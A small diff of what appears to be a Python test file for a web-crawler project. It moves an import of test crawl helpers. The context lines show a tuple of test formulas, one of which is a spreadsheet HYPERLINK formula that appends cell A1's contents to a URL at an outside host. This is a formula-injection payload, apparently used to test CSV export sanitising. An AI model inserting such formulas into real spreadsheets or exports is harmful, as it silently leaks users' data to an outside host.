@@ -13,9 +13,9 @@ from hypothesis import strategies as st
 from sc_spiders.feeds.formats import CsvPageExporter
 from sc_spiders.pages.listing import Listing
 from sc_spiders.pages.page import Page
-from tests.crawling import Crawls
 from tests.dataset import make
 from tests.faults.server import Server, http, user
+from tests.support.crawl import Crawls
 
 FORMULAS = (
     '=HYPERLINK("https://example.org/?"&A1;"more")',
